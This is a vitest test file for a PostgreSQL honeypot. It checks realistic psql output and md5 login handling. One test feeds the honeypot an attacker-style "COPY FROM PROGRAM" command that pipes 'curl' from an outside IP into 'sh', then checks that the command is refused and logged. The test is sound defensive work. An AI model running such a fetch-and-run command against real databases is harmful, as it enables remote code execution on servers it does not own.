import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { postgresService } from '../../../../agent/services/db/postgres';
import { appDatabase } from '../../../../agent/services/db/postgres-session';
import { eventually } from '../../../helpers/eventually';
import { run, startService, type ServiceHarness } from '../service-harness';

const ip = '127.32.2.9';
const md5Ip = '127.32.2.10';
const decky = 'srv-db-07';

/** A persona user logged in with the real psql: meta-commands and queries answered, each recorded. */
describe('postgres honeypot: a logged-in session', () => {
  let pg: ServiceHarness;
  let pgMd5: ServiceHarness;
  const app = appDatabase(decky).name;
  beforeAll(async () => {
    const users = 'analytics:Winter2024!';
    pg = await startService(postgresService, { ip, name: decky, serviceConfig: { postgres: { users } } });
    pgMd5 = await startService(postgresService, {
      ip: md5Ip,
      name: decky,
      serviceConfig: { postgres: { users, auth: 'md5' } },
    });
  });
  afterAll(async () => {
    await pg.stop();
    await pgMd5.stop();
  });

  const psql = (host: string, args: string[], pw = 'Winter2024!', db = app) =>
    run('psql', ['-h', host, '-U', 'analytics', '-d', db, '-X', ...args], {
      env: { PGPASSWORD: pw, PGCONNECT_TIMEOUT: '5', PGSSLMODE: 'disable' },
    });

  it('\\l, \\dt, version() and a select come back in psql’s own table format', async () => {
    const l = await psql(ip, ['-c', '\\l']);
    expect(l.stderr).toBe('');
    expect(l.stdout).toMatch(/^ +List of databases\n/);
    for (const db of ['postgres', 'template0', 'template1', app])
      expect(l.stdout).toMatch(new RegExp(`^ ${db} +\\| postgres +\\| UTF8`, 'm'));
    const dt = await psql(ip, ['-c', '\\dt']);
    expect(dt.stdout).toMatch(/ public +\| customers +\| table +\| postgres/);
    const v = await psql(ip, ['-tAc', 'select version()']);
    expect(v.stdout.trim()).toBe(
      'PostgreSQL 15.8 (Debian 15.8-0+deb12u1) on x86_64-pc-linux-gnu, compiled by gcc (Debian 12.2.0-14) 12.2.0, 64-bit',
    );
    const sel = await psql(ip, ['-c', 'select name, email from customers limit 2']);
    expect(sel.stdout).toMatch(
      / +name +\| +email +\n-+\+-+\n Acme Corp +\| billing@acme\.example\n Globex +\| ap@globex\.example\n\(2 rows\)/,
    );
    await eventually(() =>
      pg.ofKind('command').some((e) => e.data.query === 'select name, email from customers limit 2'),
    );
  });

  it('COPY FROM PROGRAM is refused as for a role without superuser, and recorded with its command', async () => {
    const r = await psql(ip, ['-c', "copy t from program 'curl http://198.51.100.9/x | sh'"]);
    expect(r.stderr.trim()).toBe(
      'ERROR:  must be superuser or a member of the pg_execute_server_program role to COPY to or from an external program',
    );
    await eventually(() => pg.ofKind('command').some((e) => String(e.data.query).includes('from program')));
    // The error's P position makes psql point at the name, as with a real server.
    expect((await psql(ip, ['-c', 'select * from nope'])).stderr.trim()).toBe(
      'ERROR:  relation "nope" does not exist\nLINE 1: select * from nope\n                      ^',
    );
  });

  it('md5 logins are checked against the salted hash; a wrong password still fails with 28P01', async () => {
    expect((await psql(md5Ip, ['-tAc', 'select current_user'])).stdout.trim()).toBe('analytics');
    const bad = await psql(md5Ip, ['-c', 'select 1'], 'wrong');
    expect(bad.code).not.toBe(0);
    expect(bad.stderr).toContain('password authentication failed for user "analytics"');
  });
});
